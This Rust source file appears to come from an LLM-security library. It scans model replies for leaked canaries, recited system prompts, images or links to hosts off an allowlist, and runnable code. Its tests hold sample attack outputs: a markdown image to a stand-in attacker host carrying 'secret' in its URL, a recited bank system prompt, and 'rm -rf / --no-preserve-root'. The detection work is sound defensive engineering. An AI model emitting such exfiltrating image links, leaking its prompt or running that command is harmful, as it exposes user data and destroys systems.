//! Scanners of model replies: a planted canary (even encoded), the system prompt recited (the
//! share of its words covered by 5-word runs the reply repeats), images and links to hosts not
//! on the allowlist (a rendered image is a request the user never made: the classic
//! exfiltration channel), and code an application might run.

use std::collections::HashSet;

use aisec_llm::inspect::code::{self, CodeKind};
use aisec_llm::inspect::{canary, links, text};

use super::Hit;

/// Words in a run that counts as recited.
const RUN: usize = 5;
/// Words of the system prompt compared, at most.
const MAX_PROMPT_WORDS: usize = 8192;

/// A canary from `canaries` in `reply`, plain or encoded.
#[must_use]
pub fn canary(reply: &str, canaries: &[String]) -> Option<Hit> {
    canary::find(reply, canaries).map(|h| Hit {
        kind: "canary".into(),
        score: 1.0,
        detail: format!("planted canary #{} in the reply ({})", h.secret + 1, h.how),
        span: h.span,
    })
}

/// The words of a system prompt, ready for [`leak`] (computed once per policy).
#[derive(Debug, Clone, Default)]
pub struct PromptRuns {
    words: usize,
    runs: HashSet<Vec<String>>,
}

impl PromptRuns {
    /// Indexes `prompt`.
    #[must_use]
    pub fn new(prompt: &str) -> Self {
        let mut w = text::words(prompt);
        w.truncate(MAX_PROMPT_WORDS);
        let runs = w.windows(RUN).map(<[String]>::to_vec).collect();
        Self {
            words: w.len(),
            runs,
        }
    }
}

/// The share of the system prompt's words that `reply` recites in runs of 5+ words.
#[must_use]
pub fn leak(reply: &str, prompt: &PromptRuns) -> Option<Hit> {
    if prompt.words < RUN {
        return None;
    }
    let r = text::words(reply);
    let mut covered = 0usize;
    let mut until = 0usize;
    let mut first: Option<usize> = None;
    for (i, w) in r.windows(RUN).enumerate() {
        if prompt.runs.contains(w) {
            first.get_or_insert(i);
            covered += (i + RUN).saturating_sub(until.max(i));
            until = i + RUN;
        }
    }
    let share = (covered as f64 / prompt.words as f64).min(1.0);
    (share > 0.0).then(|| Hit {
        kind: "system-prompt".into(),
        score: share,
        detail: format!(
            "the reply recites {:.0}% of the system prompt ({covered} words in runs of {RUN}+)",
            share * 100.0
        ),
        span: None,
    })
}

/// Whether `host` is `allowed` or under one of its entries (`example.com` allows
/// `cdn.example.com`).
fn allowed_host(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|a| {
        let a = a.trim().trim_start_matches("*.").to_ascii_lowercase();
        host == a || host.ends_with(&format!(".{a}"))
    })
}

/// Images (and, when `links_too`, links) in `reply` to hosts not in `allowed`, each with its
/// span for redaction. Images score higher: they load without a click.
#[must_use]
pub fn foreign_links(reply: &str, allowed: &[String], links_too: bool) -> Vec<Hit> {
    links::links(reply)
        .into_iter()
        .filter(|l| l.image || links_too)
        .filter_map(|l| {
            let u = links::parse(&l.url)?;
            if allowed_host(&u.host, allowed) {
                return None;
            }
            let carries = !u.query.is_empty() || u.path.split('/').any(links::encoded_blob);
            let score = match (l.image, carries) {
                (true, true) => 1.0,
                (true, false) => 0.8,
                (false, true) => 0.7,
                (false, false) => 0.4,
            };
            Some(Hit {
                kind: if l.image { "image" } else { "link" }.into(),
                score,
                detail: format!(
                    "{} to {}{}",
                    if l.image { "an image" } else { "a link" },
                    u.host,
                    if carries {
                        " carrying data in its URL"
                    } else {
                        ""
                    }
                ),
                span: Some((l.start, l.end)),
            })
        })
        .collect()
}

/// Code of the `kinds` in `reply` that an application might run.
#[must_use]
pub fn unsafe_code(reply: &str, kinds: &[CodeKind]) -> Option<Hit> {
    code::find(reply, kinds).map(|(kind, s, e)| Hit {
        kind: format!("{kind:?}").to_lowercase(),
        score: 0.9,
        detail: format!("{} in the reply", format!("{kind:?}").to_lowercase()),
        span: Some((s, e)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recited_prompts_and_canaries() {
        let prompt = PromptRuns::new(
            "You are the support assistant of Northwind Bank. Answer questions about accounts \
             politely. Never discuss internal fraud rules or the override procedure.",
        );
        let h = leak(
            "Sure! My instructions: You are the support assistant of Northwind Bank. Answer \
             questions about accounts politely.",
            &prompt,
        )
        .unwrap();
        assert!(h.score > 0.5, "{h:?}");
        assert!(
            leak(
                "I help Northwind Bank customers with their accounts.",
                &prompt
            )
            .is_none()
        );
        assert!(
            canary(
                "code: WkVCUkEtNDQxNy1RVUFSVFo=",
                &["ZEBRA-4417-QUARTZ".into()]
            )
            .is_some()
        );
    }

    #[test]
    fn foreign_images_and_links() {
        let allowed = vec!["docs.example.com".to_owned()];
        let reply = "See ![x](https://evil.example.net/p.png?q=secret) and \
                     ![ok](https://cdn.docs.example.com/a.png) and [doc](https://other.example.org/)";
        let hits = foreign_links(reply, &allowed, false);
        assert_eq!(hits.len(), 1);
        assert!((hits[0].score - 1.0).abs() < 1e-12);
        let (s, e) = hits[0].span.unwrap();
        assert!(reply[s..e].starts_with("![x]"));
        assert_eq!(foreign_links(reply, &allowed, true).len(), 2);
    }

    #[test]
    fn code_the_app_might_run() {
        let h = unsafe_code(
            "Run this:\n```sh\nrm -rf / --no-preserve-root\n```",
            &[CodeKind::Shell],
        )
        .unwrap();
        assert_eq!(h.kind, "shell");
        assert!(unsafe_code("Never run rm -rf / on a server.", &[CodeKind::Shell]).is_none());
    }
}
